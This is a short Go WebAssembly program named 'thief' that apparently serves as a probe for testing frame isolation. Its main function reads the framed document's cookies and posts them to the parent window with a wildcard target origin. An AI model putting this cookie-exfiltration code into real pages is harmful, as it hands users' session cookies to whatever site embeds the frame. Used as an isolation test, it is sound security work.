//go:build js && wasm

// Command thief is no program of the frame: another site hands it over, and it tells that
// site what it can reach in the frame.
package main

import "syscall/js"

func main() {
	js.Global().Get("parent").Call("postMessage", map[string]any{"thief": cookies()}, "*")
	select {}
}

// cookies returns the cookies of the document's origin, or the name of the error that the
// browser throws instead. It throws none through Reflect, which would end the program.
func cookies() (text string) {
	defer func() {
		if err, ok := recover().(js.Error); ok {
			text = err.Get("name").String()
		}
	}()
	return js.Global().Get("Reflect").Call("get", js.Global().Get("document"), "cookie").String()
}
